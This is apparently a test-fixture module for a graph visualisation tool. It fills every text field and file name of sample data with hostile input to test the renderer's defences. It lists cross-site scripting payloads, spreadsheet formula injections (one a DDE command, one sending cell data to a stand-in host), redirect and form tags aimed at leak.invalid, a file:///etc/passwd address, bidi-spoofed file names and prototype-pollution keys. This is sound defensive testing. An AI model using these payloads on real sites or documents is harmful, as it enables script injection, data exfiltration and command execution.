"""What strangers may write: markup, scripts, formulas and letters that break lines, in every field of every file."""

from __future__ import annotations

from collections.abc import Iterator
from importlib import resources
from itertools import cycle
from pathlib import Path
from typing import Any

import polars as pl

from graphkit.maps.pack import View

# Whatever of these runs says so in `hacked`; whatever becomes an element is one that the page has none of.
MARKUP = (
    "<img src=x onerror=window.hacked=1>",
    "</script><script>window.hacked=1</script>",
    "</style></title></textarea><svg onload=window.hacked=1>",
    "\"'><iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
    "<x-hacked onclick=window.hacked=1 tabindex=0>click</x-hacked>",
    "<meta http-equiv=refresh content='0;url=https://leak.invalid/'><base href=https://leak.invalid/>",
    "<link rel=stylesheet href=https://leak.invalid/><form action=https://leak.invalid/><input name=q>",
    "<!--<script>]]>",
    "{{7*7}} {{script}} {{data}} ${7*7} <%= 7*7 %>",
    'a title with <a href="javascript:window.hacked=1">href</a>',
)
FORMULAS = (
    '=HYPERLINK("https://leak.invalid/"&A1,"open")',
    '=cmd|"/c calc"!A1',
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "＝1+1",
)
UNRULY = (
    "\u202egnp.exe\u2066\u200f\u061c",
    "a\u200b\u200b\ufeffb\u2028c\u0085d",
    "x" * 10_000,
    "long " * 2_000,
    "e" + "\u0301" * 400,
    "👩‍👩‍👧‍👦🏳️‍🌈" * 60,
    "漢字かな交じり文" * 60,
    "שלום مرحبا " * 30,
    "__proto__",
    "constructor",
    "null",
)
ATTACKS = MARKUP + FORMULAS + UNRULY
# Files are read as UTF-8, which has no halves of characters; a source's JSON has.
HALVES = ("\ud800", "x\udc00y", "\0")
ADDRESSES = (
    "javascript:window.hacked=1",
    " jaVa\nScript:window.hacked=1",
    "data:text/html,<script>window.hacked=1</script>",
    "vbscript:window.hacked=1",
    "blob:https://leak.invalid/1",
    "file:///etc/passwd",
    "//leak.invalid/",
    'https://leak.invalid/"><img src=x onerror=window.hacked=1>',
)
FRAGMENTS = (
    "#n=" + "%3Cimg%20src%3Dx%20onerror%3Dwindow.hacked%3D1%3E",
    "#<img src=x onerror=window.hacked=1>",
    "#javascript:window.hacked=1",
    "#n=%E0%A4%A&n=%ff%fe&%",
    "#n=__proto__&c=__proto__&b=constructor&t=toString&s=__proto__",
    "#c=-1e999&s=Infinity&x=NaN&y=1e999&z=-0",
    "#x=999999999&y=-999999999&z=0.000001",
    "#c=999&b=<svg onload=window.hacked=1>&f=2&s=-5",
    "#l=" + "x" * 10_000 + "&l=%F0%9F%98%80" * 500,
)
TITLE = MARKUP[-1]
FILE = '"><img src=x onerror=window.hacked=1>{{data}} =1+1 \u202etxt'
SEED = "7412908000000624219"
# What the project itself writes, of a few words that the page knows.
OWN_WORDS = frozenset({"renderer", "role"})


def write_hostile_files(folder: Path) -> list[Path]:
    """The sample network with an attack in every field that is text: three files, hostile by name too."""
    niche = resources.files("sample_graphs") / "niche"
    written = []
    for table in ("accounts", "posts", "comments"):
        with (niche / f"{table}.csv.gz").open("rb") as file:
            read = pl.read_csv(file.read(), infer_schema=False)
        path = folder / f"{table} {FILE}.csv"
        _poisoned(read).write_csv(path)
        written.append(path)
    return written


def hostile_everywhere(view: View) -> View:
    """The view with an attack in place of every text that it holds, whatever it is called."""
    attacks = cycle((*ATTACKS, *HALVES, *ADDRESSES))
    accounts = view["accounts"]
    poisoned = _poison({name: told for name, told in view.items() if name not in ("accounts", "ties")}, attacks)
    columns = {name: _poison(told, attacks) if name not in OWN_WORDS else told for name, told in accounts.items()}
    # An account is known by its id: two may not have the same.
    columns["id"] = [f"{attack}{place}" for place, attack in zip(range(len(accounts["id"])), attacks, strict=False)]
    return {**view, **poisoned, "accounts": columns}


def _poisoned(table: pl.DataFrame) -> pl.DataFrame:
    rows = pl.int_range(pl.len())

    def drawn(texts: tuple[str, ...], first: int = 0) -> pl.Expr:
        return pl.lit(pl.Series(texts, dtype=pl.String)).gather((rows + first) % len(texts))

    texts = [name for name in ("name", "bio", "location", "text", "hashtags") if name in table.columns]
    poisoned = table.with_columns(drawn(ATTACKS, first).alias(name) for first, name in enumerate(texts))
    if "handle" not in table.columns:
        return poisoned
    return poisoned.with_columns(handle=drawn(ATTACKS, 5) + rows.cast(pl.String), url=drawn(ADDRESSES))


def _poison(told: Any, attacks: Iterator[str]) -> Any:
    if isinstance(told, str):
        return next(attacks)
    if isinstance(told, list):
        return [_poison(one, attacks) for one in told]
    if isinstance(told, dict):
        return {name: _poison_under(name, one, attacks) for name, one in told.items()}
    return told


def _poison_under(name: str, told: Any, attacks: Iterator[str]) -> Any:
    if name in OWN_WORDS:
        return told
    # The names of the score's parts are shown.
    return {next(attacks): one for one in told.values()} if name == "parts" else _poison(told, attacks)
